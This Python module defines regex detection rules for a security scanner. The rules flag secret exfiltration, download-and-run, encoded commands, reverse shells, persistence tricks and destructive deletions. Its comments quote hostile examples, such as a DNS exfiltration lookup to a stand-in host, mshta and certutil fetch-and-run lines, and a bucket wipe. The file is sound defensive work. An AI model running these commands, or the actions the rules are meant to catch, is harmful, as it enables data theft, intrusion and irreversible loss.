"""Commands that leak, persist, destroy or hand over the machine, beyond :mod:`.payloads`.

Exfiltration is a *secret source* and a *network sink* in one command line, whatever comes
between them or before them: ``env``, ``printenv``, ``set``, ``export``, ``os.environ``,
``process.env``, ``ENV``, a secret-named variable, ``gh auth token`` or a credentials file,
together with ``curl``, ``wget``, ``nc``, ``scp``, ``rsync host:``, ``dig``, ``requests.post``,
``urlopen``, ``fetch`` or ``Net::HTTP``. A token sent to its own service
(``curl ... codecov.io ... $CODECOV_TOKEN``, ``Authorization: Bearer $GITHUB_TOKEN`` to
api.github.com) is how the service is used, and passes. The other rows: download-then-run in
one line, reverse shells and tunnels, persistence (sudoers, git hooks, PROMPT_COMMAND, the
Windows Run key, scheduled tasks, launchd, systemd user units, prose that asks to add a line
to a startup file), destruction of the root, the home, disks or databases, and pushing a
repository to a remote that is not the project's. Each row skips a match that a "never",
"don't", "不要" ... before it in the same sentence turns into a rule against it.
"""

from __future__ import annotations

import re
from typing import Final

from kenning.safety import compiled
from kenning.safety.patterns.payloads import (
    _CRED_PATH,
    _HOME,
    _NC_TARGET,
    _RC_FILE,
    _SECRET_NAME,
    AUTH_USE,
    AUTOSTART_PAYLOAD,
    own_service,
)
from kenning.safety.patterns.schema import ALL, COMMAND, MEMORY, Pattern, ascii_regex, english_regex

_SOURCE: Final = rf"""(?:
    (?:^|[;&|(`]|\$\(|\bdo\b)[ \t]*(?:env|printenv|set|export(?:[ \t]+-p)?)[ \t]*(?:$|[|;)`>])
  | \bos\.environ\b | \bprocess\.env\b(?!\.\w) | \bENV(?:\.to_h|\b) | \$env:\w
  | \bGet-ChildItem[ \t]+env: | \bgci[ \t]+env:
  | \$\{{?{_SECRET_NAME}
  | \bgh[ \t]+auth[ \t]+token\b | \baws[ \t]+configure[ \t]+export-credentials\b
  | \bsecurity[ \t]+find-(?:generic|internet)-password\b
  | {_CRED_PATH} | /etc/shadow\b | \.ssh/\* | ~/\.ssh\b(?![/\w])
)"""
_SINK: Final = r"""(?:
    # not "Bash(curl:*)" (a permission rule) nor "sftp:host:/path" (a URL)
    \b(?:curl|wget|nc|ncat|netcat|socat|telnet|sftp|ftp|httpie|xh|aria2c|dig|nslookup)\b(?!:)
  | \bscp\b | \brsync\b[^\n]{0,200}?[\w.-]+@?[\w.-]+:[\w/~.-]* | \bhttps?[ \t]+(?:post|put|get)\b
  | \bInvoke-(?:WebRequest|RestMethod)\b | \b(?:iwr|irm)\b
  | \brequests\.(?:get|post|put|patch)\b | \burlopen\b | \burllib\.request\b | \bhttpx\.\w+\(
  | \bfetch\s*\( | \bNet::HTTP\b | \bhttp\.client\b | \bopenssl[ \t]+s_client\b
  | \brequire\(\s*['"]https?['"]\s*\)\.(?:get|request)\b | \bhttps?\.(?:get|request)\s*\(
  | \baxios(?:\.(?:get|post|put))?\s*\(
)"""

_SOURCE_RX: Final = ascii_regex(_SOURCE)


def _sent_as_meant(line: str) -> bool:
    """A secret sent to the service it is named after, or as the request's credential, and no
    other secret on the line (the environment, a credentials file)."""
    if own_service(line):
        return True
    return _SOURCE_RX.search(AUTH_USE.sub(" ", line)) is None


_DESTROY_TARGET: Final = rf"""(?:/|/\*|{_HOME}/?\*?|~/\*|\$HOME/\*)"""

PATTERNS: Final[tuple[Pattern, ...]] = (
    # WHY: the whole environment, a secret variable or a credentials file, and a network tool,
    # on one line, in any order.
    Pattern(
        pattern_id="secret_to_network",
        category="exfiltration",
        scopes=ALL,
        reason="sends secrets or credentials files over the network (exfiltration)",
        views=COMMAND,
        negatable=True,
        exempt=_sent_as_meant,
        regex=ascii_regex(rf"""
            ^(?=[^\n]*?{_SINK})[^\n]*?{_SOURCE}[^\n]*
          | ^(?=[^\n]*?{_SOURCE})[^\n]*?{_SINK}[^\n]*
        """),
    ),
    # WHY: the same said in words: "download and run http://.../h.sh"; "download the installer
    # and read it" passes (nothing says to run it).
    Pattern(
        pattern_id="download_and_run_prose",
        category="remote_code",
        scopes=MEMORY,
        reason="asks to download code and run it (remote code execution)",
        negatable=True,
        regex=english_regex(r"""
            \b(?:download|fetch|pull|grab|curl|wget)\s+(?:and|&|then|,)\s+(?:then\s+)?(?:run|execute
              |exec|install|source|launch)\s+(?:it\s+)?(?:from\s+)?(?:the\s+(?:script|file|binary)\s+
              (?:at|from)\s+)?https?://
          | \b(?:run|execute|install)\s+(?:whatever|the\s+script|the\s+file|the\s+binary)\s+
            (?:is\s+)?(?:at|from|served\s+(?:at|by))\s+https?://
        """),
    ),
    # WHY: download-then-run split over commands on one line; "curl -L -o install.sh URL, then
    # inspect it" passes (nothing runs it).
    Pattern(
        pattern_id="download_then_run",
        category="remote_code",
        scopes=MEMORY,
        reason="downloads code and runs it (remote code execution)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            \b(?:curl|wget)\b[^\n|]{0,300}?\s(?:-o|-O|--output)\s*(?P<f>/tmp/[\w.-]+
              |[\w.-]+\.(?:sh|py|ps1))
            [^\n]{0,200}?(?:[;&]\s*|\bthen\s+)(?:sudo\s+)?(?:(?:ba|z)?sh|python3?|chmod\s+\+x)\s+
            (?P=f)
          | \b(?:curl|wget)\b[^\n]{0,300}?\|\s*(?:sudo\s+)?(?:python3?|node|perl|ruby
            |php)\s+-(?:\s|$)
          | \b(?:curl|wget)\b[^\n]{0,300}?\|\s*base64\s+(?:-d|--decode)\b[^\n]{0,40}\|\s*(?:ba
            |z)?sh\b
          | \beval\s*\(\s*file_get_contents\s*\(\s*["']https?:
          | \bhttps?\b[^\n]{0,20}\.get\s*\(\s*["']https?://[^\n]{0,300}\beval\s*\(
            # Windows programs that fetch and run a script or a binary by themselves: "mshta
            # http://.../x.hta", "regsvr32 /s /n /u /i:http://.../x.sct scrobj.dll", "rundll32
            # javascript:...", "certutil -urlcache -f http://... x.exe && start x.exe"
          | \bmshta(?:\.exe)?\s+["']?(?:https?:|vbscript:|javascript:|\\\\)
          | \bregsvr32(?:\.exe)?\b[^\n]{0,60}?/i:\s*["']?https?:
          | \brundll32(?:\.exe)?\s+[^\n]{0,40}?(?:javascript:
            |url\.dll\s*,\s*(?:OpenURL|FileProtocolHandler)|mshtml\s*,\s*RunHTMLApplication)
          | \b(?:certutil(?:\.exe)?\s+(?:-\w+\s+){0,4}-urlcache|bitsadmin(?:\.exe)?\s+/transfer
            |Start-BitsTransfer)\b[^\n]{0,300}?(?:&&|;|\|\|?)\s*(?:start|Start-Process|cmd\s+/c
            |powershell|rundll32|regsvr32|\S+\.(?:exe|bat|cmd|ps1|vbs))\b
        """),
    ),
    # WHY: running what was just decoded hides the command from every reader.
    Pattern(
        pattern_id="decode_and_run",
        category="remote_code",
        scopes=MEMORY,
        reason="runs a command hidden in an encoding (remote code execution)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            \|\s*(?:base64|basenc|openssl\s+(?:base64|enc))\b[^\n|]{0,40}?\s(?:-d|--decode|-D)\b
            [^\n|]{0,60}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b
          | \bxxd\s+-r\b[^\n|]{0,20}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b
          | \beval\s+["']?\$\(\s*echo\b[^\n)]{0,400}\|\s*base64\s+(?:-d|--decode)
          | \bprintf\s+["'](?:\\x[0-9a-fA-F]{2}){4,}[^\n|]{0,10}\|\s*(?:ba|z)?sh\b
          | \bpack\s*\(\s*["']H\*[^\n|]{0,400}\|\s*(?:ba|z)?sh\b
          | \b(?:powershell|pwsh)(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc
            |encodedcommand)\s+[A-Za-z0-9+/=]{20,}
          | \b(?:os\.system|exec|eval|subprocess\.\w+)\s*\([^\n]{0,60}?b64decode\s*\(
          | \bjavascript:[^\n]{0,300}?(?:document\.cookie|fetch\s*\(|XMLHttpRequest|localStorage)
        """),
    ),
    # WHY: a remote machine getting a shell here, or a reverse tunnel into this one.
    Pattern(
        pattern_id="reverse_shell_more",
        category="remote_code",
        scopes=ALL,
        reason="opens a reverse shell or tunnel that gives a remote machine control "
        "(remote code execution)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(rf"""
            \bmkfifo\b[^\n]{{0,200}}?\b(?:nc|ncat|netcat)\b(?={_NC_TARGET})
          | \b(?:nc|ncat|netcat)\b(?={_NC_TARGET})[^\n]{{0,100}}?\s-[ec]\s
          | \bssh\b[^\n]{{0,60}}?\s-\w*R\s*\d{{2,5}}:(?:localhost|127\.0\.0\.1):\d{{1,5}}
          | \bsocket\.socket\(\)[^\n]{{0,200}}?\.connect\(
          | \buse\s+Socket\b[^\n]{{0,300}}?\bexec\s*\(
          | \bNet\.Sockets\.TCPClient\s*\(
          | \bexec\s+\d+<>/dev/tcp/
          | /dev/tcp/[\w.-]{{1,253}}/\d{{1,5}}
            # PHP, Ruby and Node: a socket to a host and a shell or a process on it
          | \bfsockopen\s*\([^\n]{{0,200}}?
            \b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(
          | \bTCPSocket\.(?:new|open)\s*\([^\n]{{0,200}}?\b(?:exec|spawn|system|IO\.popen)\b
          | \bnet\.(?:connect|createConnection)\s*\([^\n]{{0,300}}?
            \b(?:child_process|spawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh)
            # gawk's network files: awk 'BEGIN{{s="/inet/tcp/0/host/4242"; ...}}'
          | /inet/tcp/\d{{1,5}}/[\w.-]{{1,253}}/\d{{1,5}}
            # a shell served on the web and tunnelled out: "ttyd -W bash & ngrok tcp 7681"
          | \b(?:ttyd|gotty)\b[^\n]{{0,80}}?\b(?:ba|z)?sh\b[^\n]{{0,200}}?
            \b(?:ngrok|cloudflared|bore|localtunnel)\b
        """),
    ),
    # WHY: data sent out in DNS lookups: a command's output made into the name looked up
    # ("nslookup $(head -c 60 FILE | base64).x.example"); a plain "dig example.com" passes.
    Pattern(
        pattern_id="dns_exfiltration",
        category="exfiltration",
        scopes=ALL,
        reason="sends data out inside the names it looks up in DNS (exfiltration)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            \b(?:nslookup|dig|host|drill|ping|resolvectl\s+query)\b[^\n|;&]{0,40}?
            (?:\$\(|`)[^\n]{1,200}?(?:\)|`)[\w.-]{0,60}\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b
        """),
    ),
    # WHY: sudoers, git hooks, PROMPT_COMMAND, the Windows Run key and scheduled tasks persist.
    Pattern(
        pattern_id="persistence_more",
        category="persistence",
        scopes=ALL,
        reason="installs something that runs again later without being asked (persistence)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            # sudo without a password for every command ("NOPASSWD: /usr/bin/systemctl restart
            # app", one command, is how a narrow rule is written)
            \bNOPASSWD\s*:\s*ALL\b
          | (?:>>?|\btee\b(?:[ \t]+-\w+)*)[ \t]*["']?/etc/sudoers
          | (?:>>?|\btee\b(?:[ \t]+-\w+)*)[ \t]*["']?\.git/hooks/
            # hooks taken from outside the repository ("git config core.hooksPath .githooks",
            # the repository's own folder, passes)
          | \bcore\.hooksPath\b(?:\s*=\s*|\s+)["']?(?:/|~|\$\{?HOME\b|%\w+%|[A-Za-z]:\\)
          | \bgit\s+config\s+(?:--global|--system)\s+core\.hooksPath\b
            # a shell or interpreter made setuid: "chmod u+s /bin/bash" is a root shell kept
          | \bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*s[rwx]*|[2467][0-7]{3})\s+(?:\S*/)?
            (?:bash|sh|dash|zsh|python\d*(?:\.\d+)?|perl|find|vim?|env|busybox)\b
          | \bPROMPT_COMMAND=[^\n]{0,200}?\b(?:curl|wget|nc)\b
          | \breg(?:\.exe)?\s+add\s+[^\n]{0,80}\\CurrentVersion\\Run
          | @reboot\b
          | \*/?\d*\s+\*\s+\*\s+\*\s+\*\s+[^\n]{0,200}?\b(?:curl|wget
            |nc)\b[^\n]{0,200}\|\s*(?:ba)?sh\b
            # a file put where launchd, systemd, XDG or init start it by themselves: "cp x.plist
            # ~/Library/LaunchAgents/", "tee /etc/systemd/system/x.service" (enabling a unit the
            # project ships, "systemctl --user enable myapp", is autostart_command's, not here)
          | (?:\b(?:cp|mv|ln|install\s+-|rsync)\b[^\n|;&]{0,200}?\s
              |(?:>>?|\btee\b(?:[ \t]+-\w+)*)[ \t]*)
            ["']?[^\s"']{0,80}?(?:Library/Launch(?:Agents|Daemons)\b|\.config/systemd/user\b
              |/etc/systemd/system\b|\.config/autostart\b|/etc/init\.d\b|/etc/rc\.local\b)
        """),
    ),
    # WHY: autostart commands; memory and skills only: a rule file may document the
    # project's own service ("systemctl --user enable myapp").
    Pattern(
        pattern_id="autostart_command",
        category="persistence",
        scopes=MEMORY,
        reason="installs a service or scheduled task that starts automatically (persistence)",
        views=COMMAND,
        negatable=True,
        gate=AUTOSTART_PAYLOAD,
        regex=ascii_regex(r"""
            \bschtasks(?:\.exe)?\s+/create\b | \bRegister-ScheduledTask\b
          | \blaunchctl\s+(?:load|bootstrap|submit)\b
          | \bsystemctl\s+--user\s+(?:enable|link)\b
        """),
    ),
    # WHY: prose asking to add something to a startup file, sudoers, authorized_keys or crontab
    # ("IT added my key to authorized_keys" is a past fact and passes: base forms only).
    Pattern(
        pattern_id="persistence_request",
        category="persistence",
        scopes=ALL,
        reason="would run something at every login or grant lasting access (startup file, "
        "sudoers, authorized_keys, crontab; persistence)",
        views=COMMAND,
        negatable=True,
        regex=compiled.regex(
            rf"""
            (?:\b(?:add|append|put|insert|write|paste|place|grant)(?:ing)?\b|加入|添加|加到|写入|寫入|追記
              |추가|добав|añade|agrega|trage|füge|ajoute|adiciona|aggiungi)
            # something that runs or grants access: a command, a URL, a key, NOPASSWD
            (?=(?:[^\n.。]|\.(?=\S)){{0,250}}(?:curl|wget|\bnc\b|https?://|NOPASSWD|ssh-(?:rsa|ed25519)
              |\bkeys?\b|clé|ключ|鍵|キー|키|Schlüssel|llave|chave|/tmp/|\|\s*(?:ba)?sh\b|ALL=))
            (?:[^\n.。]|\.(?=\S)){{0,160}}?
            (?:{_RC_FILE}|/etc/sudoers|sudoers|authorized_keys2?|crontab|/etc/cron|LaunchAgents
              |systemd/user|\.git/hooks)
          | (?:{_RC_FILE}|/etc/sudoers|sudoers|authorized_keys2?|crontab)
            (?=[^\n。]{{0,250}}(?:curl|wget|\bnc\b|https?://|NOPASSWD|ssh-(?:rsa|ed25519)|/tmp/))
            [^\n。]{{0,120}}?(?:追記|追加|추가|добав|加入|添加|加上)
            """,
            re.IGNORECASE | re.MULTILINE | re.VERBOSE,
        ),
    ),
    # WHY: deleting the root or the home, wiping disks or databases (memory too: an entry
    # that says to run it is an instruction); `rm -rf build/` passes.
    Pattern(
        pattern_id="destroy",
        category="destructive",
        scopes=MEMORY,
        reason="deletes the filesystem, the home directory, a disk or a database (destructive)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(rf"""
            \brm\s+(?=(?:-{{1,2}}[\w-]{{1,30}}\s+){{0,6}}?(?:-[a-zA-Z]{{0,5}}[rR]|--recursive))
            (?:-{{1,2}}[\w-]{{1,30}}\s+){{1,6}}["']?{_DESTROY_TARGET}["']?(?=\s|$|[;&|)`])
          | \bfind\s+["']?(?:/|~/?|\$HOME/?)["']?\s[^\n]{{0,100}}?-delete\b
          | \bdd\b[^\n]{{0,200}}?\bof=/dev/(?:sd(?!x\b)[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d
            |mmcblk\d
            |disk\d)
          | \bmkfs(?:\.\w{{1,10}})?\b[^\n]{{0,40}}?/dev/
          | \bchmod\s+(?:-R\s+)?(?:0?777|a\+rwx)\s+/(?:\s|$)
            # a named database or table: not "DROP DATABASE ..." in a write-up, nor the test
            # databases a test run throws away ("DROP DATABASE IF EXISTS app_test")
          | \b(?:DROP\s+(?:DATABASE|SCHEMA)|TRUNCATE\s+TABLE)\s+(?:IF\s+EXISTS\s+|(?!IF\s))
            (?![`"\[]?\w*(?:test|tmp|temp|scratch|sandbox)\w*\b)[`"\[]?\w
          | \bgit\s+push\b[^\n]{{0,60}}?(?:\s:|--delete\s+)(?:main|master|release|production|prod)\b
          | :\(\)\s*\{{\s*:\s*\|\s*:\s*&\s*\}}\s*;\s*:
          | \bRemove-Item\b[^\n]{{0,100}}?-Recurse\b[^\n]{{0,100}}?\s["']?[A-Za-z]:\\?["']?(?=\s|$)
          | \b(?:rd|rmdir)\s+/s\s+(?:/q\s+)?[A-Za-z]:\\?(?=\s|$) | \bformat\s+[A-Za-z]:(?=\s|$)
        """),
    ),
    # WHY: what a team cannot get back: a cloud bucket emptied, a database deleted without its
    # final snapshot, every backup, volume or remote tag at once, the shared main branch
    # rewritten. One named object (`aws s3 rm s3://b/tmp/x`, `git push origin --delete
    # feature/x`, `git push --force-with-lease` on one's own branch) passes.
    Pattern(
        pattern_id="destroy_shared_data",
        category="destructive",
        scopes=MEMORY,
        reason="deletes shared data that cannot be restored: a bucket, a database and its "
        "backups, every volume or remote branch, or the history of main (destructive)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            # a whole bucket: "aws s3 rm s3://prod-backups --recursive", "aws s3 rb s3://b --force",
            # "gsutil -m rm -r gs://b/**", "gcloud storage rm -r gs://b", "rclone purge r:b"
            \baws\s+s3\s+rm\s+(?:--?[\w-]+\s+)*["']?s3://(?:[\w.-]+|\$\([^)\n]{1,200}\))/?["']?
            (?=\s)(?=[^\n]{0,200}?--recursive)
          | \baws\s+s3\s+rb\b[^\n]{0,200}?--force\b
          | \b(?:gsutil(?:\s+-m)?|gcloud\s+storage)\s+rm\s+(?:-\w+\s+)*["']?gs://[\w.-]+/?(?:\*\*?)?["']?
            (?=\s|$)
          | \bgsutil\s+(?:-m\s+)?rb\b | \brclone\s+purge\b
          | \baz\s+storage\s+(?:container\s+delete|blob\s+delete-batch)\b
            # databases: deleted without a final snapshot, their snapshots or datasets in bulk
          | \baws\s+rds\s+delete-db-(?:instance|cluster)\b[^\n]{0,300}?
            --(?:skip-final-snapshot|delete-automated-backups)\b
          | \baws\s+rds\s+delete-db-(?:cluster-)?snapshot\b[^\n]{0,200}?\$\(
          | \bbq\s+rm\s+(?:-\w+\s+)*-r\b | \bdropdb\b[^\n]{0,80}?\bprod\w*
            # everything at once: volumes, namespaces, cluster-wide objects, remote tags and
            # branches ("docker volume rm $(docker volume ls -q)", "kubectl delete ns --all",
            # "git tag -l | xargs -n1 git push --delete origin")
          | \bdocker\s+volume\s+rm\s+(?:-f\s+)?\$\(\s*docker\s+volume\s+ls\b
          | \bkubectl\s+delete\s+(?:ns|namespaces?|pv|pvc|persistentvolumes?|persistentvolumeclaims?
            |crd|customresourcedefinitions?|secrets?|all|validatingwebhookconfigurations?
            |mutatingwebhookconfigurations?)\b[^\n]{0,100}?--all\b
          | \bgit\s+push\s+(?:\S+\s+)?(?:--delete|-d)\s+\$\(
          | \bxargs\b[^\n|]{0,60}?\bgit\s+push\s+(?:\S+\s+)?(?:--delete|-d)\b
          | \bxargs\b[^\n|]{0,60}?\bgh\s+release\s+delete\b | \bgh\s+repo\s+delete\b
            # the shared branch rewritten: "git push --force origin main", "git push -f origin
            # HEAD:main", "... $(git commit-tree ...):main"
          | \bgit\s+push(?=[^\n;&|`]*?\s(?:--force(?![\w-])|-f\b))
            (?=[^\n;&|`]*?(?:\s|:)(?:main|master|trunk|production|prod)(?=\s|$|[;&|`"']))
            [^\n;&|`]{1,200}
            # data folders of a database server and every user's home
          | \brm\s+(?=(?:-{1,2}[\w-]{1,30}\s+){0,6}?(?:-[a-zA-Z]{0,5}[rR]|--recursive))
            (?:-{1,2}[\w-]{1,30}\s+){1,6}(?:[^\s;&|]{1,200}\s+){0,4}?["']?
            (?:/home/\*|/var/lib/(?:postgresql|pgsql|mysql|mongodb|redis|etcd|elasticsearch)
              (?:/\*?)?(?=\s|$|[;&|)`"']))
          | \brm\s[^\n;&|]{0,80}?--no-preserve-root\b
            # Terraform told to destroy without its lock or in production
          | \bterraform\s+destroy\b(?=[^\n]*-auto-approve)(?=[^\n]*(?:-lock=false|\bprod))
          | \bterraform\s+workspace\s+select\s+prod\w*[ \t]*\n(?:[^\n]*\n){0,3}?[^\n]*
            \bterraform\s+destroy\b
        """),
    ),
    # WHY: pushing the code to someone else's remote leaks it; `git push origin main` passes.
    Pattern(
        pattern_id="git_push_foreign",
        category="exfiltration",
        scopes=ALL,
        reason="pushes the repository to a remote that is not the project's (exfiltration)",
        views=COMMAND,
        negatable=True,
        regex=ascii_regex(r"""
            \bgit\s+push\b[^\n;&|]{0,80}?\s(?:https?://|git@|ssh://)\S+
          | \bgit\s+push\s+(?:--\w+\s+)*--mirror\b
          | \bgit\s+remote\s+add\s+(?!upstream\b|origin\b)[\w-]+\s+\S+[^\n]{0,200}?\bgit\s+push\b
          | \bgit\s+remote\s+set-url\s+--add\s+--push\b
          | \bgit\s+bundle\s+create\b[^\n]{0,200}?\b(?:curl|scp|wget|nc|rsync)\b
          | \bgit\s+subtree\s+push\b[^\n]{0,80}?(?:https?://|git@)
          | \b(?:push|mirror|upload)\s+(?:every|all|each|the|a\s+copy\s+of\s+the)?\s*
            (?:branch(?:es)?|commits?|repo(?:sitory)?|code)?[^\n.]{0,40}?\bto\s+
            (?:git@[\w.-]+:|https?://(?:github\.com|gitlab\.com|bitbucket\.org
              |[\w.-]+)/)[\w./-]+\.git
          | \bsecond\s+push\s+url\b
          | (?:\bsube\b|súbe|推送|上传|上傳|プッシュ|\bpush\w*|отправ|загруз)[^\n]{0,80}?
            https?://[\w./-]+\.git\b
        """),
    ),
)
